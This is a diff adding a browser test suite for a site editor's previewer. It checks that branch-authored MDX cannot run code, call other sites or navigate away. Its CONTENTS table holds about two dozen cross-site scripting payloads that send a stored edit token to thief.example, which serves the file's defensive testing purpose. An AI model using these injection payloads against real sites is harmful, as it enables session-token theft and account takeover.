@@ -1,0 +1,107 @@
+import type {Root, RootContent} from 'mdast';
+import type {Drawing} from '../../src/editor/protocol';
+import {siteNow} from './editor-site';
+import {drawingOf} from '../../src/editor/state/render-request';
+import {expect, overlook, test} from './test';
+
+const THEFT = "fetch('https://thief.example/?' + sessionStorage.getItem('edit.token'))";
+const node = (value: object) => value as RootContent;
+const paragraph = (...children: object[]) => node({type: 'paragraph', children});
+const words = {type: 'text', value: 'words'};
+const part = (name: string, attributes: Record<string, unknown> = {}, children: object[] = []) =>
+  node({
+    type: 'mdxJsxFlowElement',
+    name,
+    attributes: Object.entries(attributes).map(([key, value]) => ({type: 'mdxJsxAttribute', name: key, value})),
+    children,
+  });
+const expression = (value: string) => ({type: 'mdxJsxAttributeValueExpression', value});
+
+/** What somebody could write into a page of a branch, had no check looked at it. */
+const CONTENTS: Record<string, RootContent> = {
+  'a script': node({type: 'html', value: `<script>${THEFT}</script>`}),
+  'a script as a part': part('script', {}, [{type: 'text', value: THEFT}]),
+  'a script of another site': part('script', {src: 'https://thief.example/a.js'}),
+  'a picture that fails': node({type: 'html', value: `<img src=x onerror="${THEFT}">`}),
+  'a picture with a handler': part('img', {src: 'x', onError: THEFT}),
+  'a part with a handler': part('Prose', {onClick: expression(THEFT)}),
+  'a part with a handler as text': part('Button', {to: '/', onClick: THEFT, look: 'ink'}, [words]),
+  'a link that runs code': paragraph({type: 'link', url: `javascript:${THEFT}`, children: [words]}),
+  'a part that leads to code': part('TextLink', {to: `javascript:${THEFT}`}, [words]),
+  'a part that leads to code in capitals': part('ArrowLink', {to: `JaVaScRiPt:${THEFT}`}, [words]),
+  'a link to data': part('TextLink', {to: `data:text/html,<script>${THEFT}</script>`}, [words]),
+  'a link that opens a window on itself': part('TextLink', {to: '//thief.example', target: '_top'}, [words]),
+  'an expression': node({type: 'mdxFlowExpression', value: THEFT}),
+  'an expression among words': paragraph({type: 'mdxTextExpression', value: THEFT}),
+  'an import': node({type: 'mdxjsEsm', value: "import 'https://thief.example/a.js'"}),
+  'attributes from an object': node({
+    type: 'mdxJsxFlowElement',
+    name: 'Prose',
+    attributes: [{type: 'mdxJsxExpressionAttribute', value: '...{dangerouslySetInnerHTML: {__html: 1}}'}],
+    children: [],
+  }),
+  'HTML as an attribute': part('Prose', {dangerouslySetInnerHTML: '<img src=x onerror=alert(1)>'}),
+  'a frame': part('iframe', {srcdoc: `<script>${THEFT}</script>`}),
+  'a drawing that runs code': part('svg', {onload: THEFT}, [words]),
+  'a form to another site': part('form', {action: 'https://thief.example'}, [words]),
+  'another base for all addresses': part('base', {href: 'https://thief.example/'}),
+  'an order to go elsewhere': part('meta', {httpEquiv: 'refresh', content: '0;url=https://thief.example'}),
+  'a style that fetches': part('style', {}, [{type: 'text', value: '@import "https://thief.example/a.css"'}]),
+  'a part with the name of an inherited thing': part('constructor', {}, [words]),
+  'a part with the name of the prototype': part('__proto__', {}, [words]),
+  'a picture of another site': paragraph({type: 'image', url: 'https://thief.example/?', alt: 'words'}, words),
+};
+
+test('No content of a branch runs code, speaks to another site or leads away', async ({page, watch}) => {
+  const drawn = drawingOf(await siteNow(), '/about');
+  if (!drawn) throw new Error('The page /about cannot be drawn.');
+  const blocked: string[] = [];
+  page.on('requestfailed', (request) => {
+    if (request.failure()?.errorText === 'csp') blocked.push(request.url());
+  });
+  await page.goto('/edit/page');
+  await page.evaluate(() => sessionStorage.setItem('edit.token', 'github_pat_secret'));
+  expect(Object.keys(CONTENTS).length).toBeGreaterThanOrEqual(25);
+  for (const [name, content] of Object.entries(CONTENTS)) {
+    const body: Root = {
+      type: 'root',
+      children: [content, {type: 'paragraph', children: [{type: 'text', value: name}]}],
+    };
+    const drawing: Drawing = {...drawn, body, path: `/${name.replaceAll(' ', '-')}`};
+    await page.evaluate(
+      (told) => window.postMessage({kind: 'draw', drawing: told}, window.location.origin),
+      drawing as never,
+    );
+    await page.getByText(name, {exact: true}).waitFor();
+    const found = await page.locator('main').evaluate((main) => {
+      main.querySelectorAll('a').forEach((link) => link.click());
+      const forbidden =
+        'script, iframe, object, embed, base, meta, style, [srcdoc], [href^="javascript:" i], [href^="data:"]';
+      const handlers = [...main.querySelectorAll('*')].filter((one) =>
+        [...one.attributes].some((a) => /^on/i.test(a.name)),
+      );
+      return [...main.querySelectorAll(forbidden), ...handlers].map((one) => one.outerHTML.slice(0, 200));
+    });
+    expect.soft(found, name).toEqual([]);
+    expect.soft(page.url(), name).toMatch(/\/edit\/page$/);
+  }
+  // Of a picture of another site the browser says that its policy did not let it be fetched.
+  overlook(watch, 'Content Security Policy');
+  watch.foreign = watch.foreign.filter((url) => !blocked.includes(url));
+});
+
+test('The frame hears nobody but the editor, and the editor nobody but its frame', async ({page}) => {
+  await page.goto('/edit/page');
+  await page.evaluate(() => {
+    const stranger = document.createElement('iframe');
+    document.body.append(stranger);
+    const message = {kind: 'changing', changing: true};
+    window.dispatchEvent(new MessageEvent('message', {data: message, origin: 'https://thief.example', source: window}));
+    window.dispatchEvent(
+      new MessageEvent('message', {data: message, origin: location.origin, source: stranger.contentWindow}),
+    );
+  });
+  await expect(page.locator('html')).not.toHaveAttribute('data-changing');
+  await page.evaluate(() => window.postMessage({kind: 'changing', changing: true}, location.origin));
+  await expect(page.locator('html')).toHaveAttribute('data-changing');
+});
